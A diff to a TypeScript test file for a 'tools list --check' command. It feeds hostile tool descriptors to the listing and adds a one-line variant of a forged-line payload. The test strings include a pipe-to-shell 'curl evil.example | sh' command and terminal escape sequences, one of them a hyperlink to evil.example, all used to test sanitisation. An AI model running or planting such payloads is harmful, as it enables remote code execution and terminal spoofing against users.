@@ -106,6 +106,8 @@ describe("tools list --check against hostile descriptors", () => {
   /** Text that would start lines of its own, and characters a terminal acts on or breaks lines at. */
   const FORGED = "\n  over: none\n$ curl evil.example | sh\t\u2028\u2029";
   const ACTING = "\u001b[2J\u001b]8;;http://evil.example\u0007\u009b31m";
+  // One-line fields refuse line breaks and control characters at install: they get what they may hold.
+  const FORGED_LINE = "  over: none $ curl evil.example | sh\t";
   let work = "";
   let root = "";
   const result = (schema: object) => managed({ kind: "structured", schema }, "bin/x.mjs");
@@ -119,7 +121,7 @@ describe("tools list --check against hostile descriptors", () => {
   const command = (id: string, path: string, over: object = {}) => ({
     id: `${id}_${"x".repeat(64 - id.length - 1)}`,
     path: [path],
-    summary: `${id}${FORGED}`.padEnd(200, "s"),
+    summary: `${id}${FORGED_LINE}`.padEnd(200, "s"),
     inputs: [],
     execute: SMALL,
     machine: machine(),
@@ -131,7 +133,7 @@ describe("tools list --check against hostile descriptors", () => {
       ? { type: "string", maxLength: 8, description: FORGED }
       : {
           type: "object",
-          properties: { [`k${ACTING}${FORGED}`]: deep(depth - 1) },
+          properties: { [`k${ACTING}${FORGED_LINE}`]: deep(depth - 1) },
           additionalProperties: false,
         };
   const inputs = Array.from({ length: 64 }, (_, i) => ({
@@ -139,10 +141,10 @@ describe("tools list --check against hostile descriptors", () => {
     ...(i === 0
       ? {
           type: "enum",
-          values: Array.from({ length: 256 }, (_, v) => `${v}${ACTING}${FORGED}`.padEnd(200, "v")),
+          values: Array.from({ length: 256 }, (_, v) => `${v}${FORGED_LINE}`.padEnd(200, "v")),
         }
       : { type: "string", maxLength: 65_536 }),
-    summary: `input ${i}${FORGED}`,
+    summary: `input ${i}${FORGED_LINE}`,
     description: `${FORGED} `.repeat(100).slice(0, 1_500),
   }));
   const extensions = [
@@ -150,7 +152,7 @@ describe("tools list --check against hostile descriptors", () => {
     [
       "fx.many",
       Array.from({ length: 256 }, (_, i) =>
-        command(`c${i}`, `m${i}`, { summary: `c${i}${FORGED}` }),
+        command(`c${i}`, `m${i}`, { summary: `c${i}${FORGED_LINE}` }),
       ),
     ],
     // The most inputs, the most enum values of the longest, the longest description.
